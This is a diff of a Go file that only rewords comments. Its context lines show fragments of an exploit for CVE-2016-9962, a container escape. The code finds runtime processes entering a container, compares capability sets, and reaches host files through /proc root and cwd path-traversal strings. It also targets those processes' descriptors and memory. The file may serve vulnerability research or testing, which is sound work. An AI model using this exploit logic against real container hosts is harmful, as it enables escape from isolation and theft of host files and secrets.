@@ -25,12 +25,12 @@ type hunter struct {
 	number int
 }
 
-// hunt is the attack of CVE-2016-9962: a process of the runtime that is about to become one of
-// a container can be seen from inside. The hunter tries to get its root, its descriptors, its
-// working directory, its memory and its program. With the argument "once" it examines the
-// present processes and ends.
+// hunt is the attack of CVE-2016-9962: a process of the runtime that is about to become a
+// container's can be seen from inside the container. hunt tries to reach its root, its
+// descriptors, its working directory, its memory and its program. With the argument "once"
+// it examines the present processes once and ends.
 func (t target) hunt(args []string) {
-	runtime.LockOSThread() // a tracer is a thread
+	runtime.LockOSThread() // only the tracing thread can use ptrace(2)
 	h := &hunter{target: t, self: os.Getpid()}
 	own := status("/proc/self/status")
 	h.bound, _ = strconv.ParseUint(own["CapBnd"], 16, 64)
@@ -75,7 +75,7 @@ func (h *hunter) raid(pid int) {
 	h.takeOver(pid, proc)
 }
 
-// takeFiles reads and creates the host's files through a root that is the host's.
+// takeFiles reads and creates files of the host through a process whose root is the host's.
 func (h *hunter) takeFiles(proc string) {
 	for _, dir := range []string{"root", "cwd/../../../../../../../../.."} {
 		h.takeSecret(proc, dir)
@@ -147,8 +147,8 @@ func (h *hunter) takeMemory(proc string) {
 	}
 }
 
-// more returns which rights a process of the runtime has that this container lacks. Tracing a
-// process of a container without further rights is no loot.
+// more returns the rights that a process of the runtime has and this container lacks. To
+// trace a process of a container without further rights is no loot.
 func (h *hunter) more(proc string) string {
 	theirs := status(proc + "status")
 	if caps, err := strconv.ParseUint(theirs["CapPrm"], 16, 64); err == nil && caps&^h.bound != 0 {
